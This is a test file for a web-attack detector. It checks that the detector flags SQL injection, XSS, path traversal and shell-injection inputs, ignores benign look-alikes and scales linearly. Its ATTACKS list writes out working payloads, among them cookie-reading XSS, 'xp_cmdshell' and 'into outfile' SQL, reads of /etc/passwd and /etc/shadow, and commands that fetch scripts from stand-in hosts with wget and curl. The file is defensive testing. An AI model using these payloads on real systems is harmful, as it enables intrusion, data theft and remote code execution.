"""SQL shapes and decoding of the web-attack detector: own examples, look-alikes, linear time."""

from __future__ import annotations

import pytest

from bastion.core.normalise import on_views
from bastion.core.types import Direction, Severity, Subject
from bastion.detectors.webattack import decoded, webattack_check
from bastion.detectors.webattack_sql import SHAPES, Shape, shape_of, sql_signals
from tests.detectors.timing import BOUND, growth

CHECK = on_views(webattack_check())


def _high(text: str, direction: Direction = Direction.TOOL_ARGS) -> set[str]:
    return {
        f.code
        for f in CHECK(Subject(text=text, direction=direction))
        if f.severity.rank >= Severity.HIGH.rank
    }


@pytest.mark.parametrize("shape", SHAPES, ids=[shape.id for shape in SHAPES])
def test_shape_matches_its_examples_and_not_its_counterexamples(shape: Shape) -> None:
    missed = [text for text in shape.examples if shape not in sql_signals(text)]
    wrong = [text for text in shape.counterexamples if shape in sql_signals(text)]
    assert not missed, f"{shape.id} misses {missed}"
    assert not wrong, f"{shape.id} matches {wrong}"


ATTACKS = [
    # SQL injection: breaking out of a quote, tautologies, comments, stacked queries, encodings
    ("A' OR 'B", "webattack.sqli"),
    ("x' DIV '", "webattack.sqli"),
    ("1' AND SLEEP(5)-- ", "webattack.sqli"),
    ("admin'/**/or/**/1=1#", "webattack.sqli"),
    ("-7 OR 2>1", "webattack.sqli"),
    ("( ( 1 ) OR ( 'b' ) )  --", "webattack.sqli"),
    ("10; SHUTDOWN --", "webattack.sqli"),
    ("1%27%20OR%20%271%27%3D%271", "webattack.sqli"),
    ("select name,pass from accounts where 1", "webattack.sqli"),
    ("1 AND extractvalue(1,concat(0x7e,version()))", "webattack.sqli"),
    ("x' OR '{\"b\":2}'::jsonb <@ '{\"a\":1}'::jsonb", "webattack.sqli"),
    ("1 into outfile '/var/www/x.php'", "webattack.sqli"),
    ("-1/**/union#--", "webattack.sqli"),
    ("1;exec xp_cmdshell 'whoami'", "webattack.sqli"),
    ("' OR x=x#", "webattack.sqli"),
    ("\u2019 or \u20181\u2019=\u20191", "webattack.sqli"),
    ("(4821=4821)*7312", "webattack.sqli"),
    ("COPY t FROM PROGRAM 'id'", "webattack.sqli"),
    ("name'collate nocase--", "webattack.sqli"),
    # XSS: tags, handlers, script URLs hidden in entities and escapes, DOM access, templates
    ("<svg/onload=alert(1)>", "webattack.xss"),
    ("<a href=&#x6A&#x61vascript&colon;alert(1)>x</a>", "webattack.xss"),
    (
        "<iframe src=j&Tab;a&Tab;v&Tab;a&Tab;s&Tab;c&Tab;r&Tab;i&Tab;p&Tab;t&Tab;:alert(1)>",
        "webattack.xss",
    ),
    ("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "webattack.xss"),
    ("%uff1cscript%uff1ealert(1)%uff1c/script%uff1e", "webattack.xss"),
    ("window['al'+'ert'](document['cookie'])", "webattack.xss"),
    ("{{constructor.constructor('alert(1)')()}}", "webattack.xss"),
    ("<embed src=//evil.example/x.swf>", "webattack.xss"),
    # path traversal, in its encodings
    ("..%252f..%252fetc%252fpasswd", "webattack.path_traversal"),
    ("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "webattack.path_traversal"),
    ("..\\..\\windows\\win.ini", "webattack.path_traversal"),
    ("../../../etc/shadow%00.png", "webattack.path_traversal"),
    # shell
    ("; cat /etc/passwd", "webattack.cmdi"),
    ("a|wget http://x.example/s.sh", "webattack.cmdi"),
    ("$(curl -s http://x.example)", "webattack.cmdi"),
    ("cat${IFS}/etc/passwd", "webattack.cmdi"),
]


@pytest.mark.parametrize(("text", "code"), ATTACKS)
def test_attacks_in_tool_arguments_are_high(text: str, code: str) -> None:
    assert code in _high(text)


LOOK_ALIKES = [
    "O'Reilly",
    "Please ship 2 copies of O'Reilly's SQL Cookbook",
    "She is 5' 10\" tall",
    'a 16" or 18" necklace',
    "Rock and roll, or jazz?",
    "I'd like to select a size from the menu",
    "see docs/../README for details",
    "Tom & Jerry; a classic",
    "Price: $5 (approx) - 10% off!",
    "Order #2 arrived; order #3 didn't",
    "The union selected a new leader",
    'He said "drop it" and left',
    '1-1/8" PLUGS',
    "Meet at 10:30; bring the report",
    "1; exec will create the case 7",
    "std::string name = s;",
    'junk <a href="../">parent</a>',
    "`foo`;`bar`;`def`",
    "Dunkin' and Ben & Jerry's are both in the mall",
    '=IF(B2>100,"High","Low")',
    "Ke$ha and A$AP Rocky",
    "and that is that",
    "it\u2019s Sin\u00e9ad O\u2019Connor\u2019s",
    "I said 'or' instead",
    "the word 'and' is a conjunction",
    "What's 2 and 2? 4!",
    "6'+x+8+'+rug",
    '36"+X+48+"+FRAME',
]


@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_look_alikes_in_tool_arguments_are_not_high(text: str) -> None:
    assert not _high(text)


CHAT = [
    "How do I write a SELECT with a JOIN? e.g. SELECT a.id FROM a JOIN b ON a.id = b.a_id",
    "Can you make this <b>bold</b> and <i>italic</i>?",
    "Why is ' OR 1=1 -- dangerous in a login form?",
    "I ran `ls -la; cat notes.txt` and it printed nothing",
    "<script>alert(1)</script> is the classic XSS test, right?",
]


@pytest.mark.parametrize("text", CHAT)
def test_talk_about_attacks_in_chat_is_not_blocked(text: str) -> None:
    assert not _high(text, Direction.INPUT)


@pytest.mark.parametrize(
    ("text", "context", "shape"),
    [
        # a name compared with itself is a literal truth, like 1=1; two different names are not
        ("or x=x", "", "&non"),
        ("or x=y", "", "&bob"),
        ("and that is that", "", "&bob"),
        # prefixed literals are strings; a lone n, x or b before a quote does not swallow a word
        ("x' or 'a'=N'a", "'", "x&sos"),
        ("1 or X'41'=X'41'", "", "n&sos"),
        # an ampersand between words is the word "and"; next to a quote it is an operator
        ("Ben & Jerry", "", "bb"),
        ("A' & 'B", "'", "xos"),
        # a comment dash right before a quote still cuts the query
        ("1 --'", "", "nc"),
        # MySQL spellings: a quoted variable name, NULL as an escape, `0x` with no digits
        ('k"OR@"2" IS NULL', '"', "y&von"),
        ("9'/qty is \\N xor '1", "'", "xabon&s"),
        ("-1 0xUNION ALL SELECT 4", "", "annUwEn"),
        # `!` is a unary NOT before a value, like a sign
        ('id" OR ! "3', '"', "y&aq"),
        # a quote after two words and a space opens a quoted word; a question mark ends a word
        ("I said 'or' twice", "'", "X&s"),
        ("What's 2 and 2? 4", "'", "xbn&nn"),
    ],
)
def test_tokeniser_reads_sql_words_and_literals(text: str, context: str, shape: str) -> None:
    assert shape_of(text, context) == shape


def test_a_backslash_escaped_quote_is_read_as_closing_the_string() -> None:
    # Standard SQL strings take no backslash escapes; the reading must not add a space that
    # turns the break-out into a quoted word.
    ids = {shape.id for shape in sql_signals("ops@site.example\\' or json_type (id);")}
    assert "sqli.shape.breakout_operator" in ids


def test_a_sentence_left_open_after_a_quoted_operator_is_read_as_words() -> None:
    # `' and ' are quotes` breaks out only if its tail is one string value; read as the words
    # it is, no shape matches, while a payload's one-token tail (`' or '1`) still reads as one.
    assert shape_of("' and ' are quotes", "'") == "x&s"
    assert shape_of("' and ' are quotes", "'", prose=True) == "x&bb"
    assert shape_of("' or '1", "'", prose=True) == "x&s"
    assert sql_signals("' and ' are quotes") == []
    assert "sqli.shape.breakout_operator" in {shape.id for shape in sql_signals("' or '1")}


def test_a_hyphenated_compound_is_no_statement() -> None:
    assert shape_of("Drop-down from the menu") == "babkbb"
    assert "sqli.shape.statement" in {shape.id for shape in sql_signals("SELECT-id-1.FROM t")}


def test_spreadsheet_formula_is_not_read_as_sql() -> None:
    assert sql_signals('=IF(B2>100,"High","Low")') == []
    assert sql_signals('IF(1=1,"a","b")')


def test_typographic_quotes_are_read_as_plain_ones() -> None:
    plain = {shape.id for shape in sql_signals("' or '1'='1")}
    curly = {shape.id for shape in sql_signals("\u2019 or \u20181\u2019=\u20191")}
    assert "sqli.shape.tautology" in plain & curly


def test_decoding_undoes_nested_encodings() -> None:
    assert decoded("%252e%252e%252f") == "../"
    assert decoded("&#x3c;b&#62;") == "<b>"
    assert decoded("plain text") is None


STRESSORS = (
    "'",
    "' or ",
    "(",
    "/*",
    "%25",
    "&#x",
    "\\u00",
    "<a ",
    "select ",
    "'--",
    '"',
    "#",
    "--x",
    "Ben & ",
)


@pytest.mark.parametrize("stressor", STRESSORS)
def test_shapes_and_decoding_scale_linearly(stressor: str) -> None:
    check = webattack_check()

    def run(text: str) -> object:
        return list(check(Subject(text=text, direction=Direction.TOOL_ARGS)))

    small = stressor * (50_000 // len(stressor))
    ratio = growth(run, small, small * 4)
    assert ratio < BOUND, f"x4 input of {stressor!r} took x{ratio:.1f} time"
